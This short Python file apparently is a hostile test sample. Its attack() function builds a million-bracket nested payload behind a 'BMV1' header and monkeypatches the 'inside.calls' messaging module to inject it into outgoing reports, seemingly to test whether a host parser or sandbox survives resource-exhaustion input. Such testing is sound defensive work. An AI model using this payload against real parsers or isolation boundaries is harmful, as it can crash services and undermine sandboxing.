import struct
import sys


def attack():
    manifest = b"[" * 1_000_000
    payload = struct.pack("<4sII", b"BMV1", len(manifest), 0) + manifest
    calls = sys.modules["inside.calls"]
    pack = calls.pack
    calls.pack = lambda report, _: pack(report, payload)
    return 1
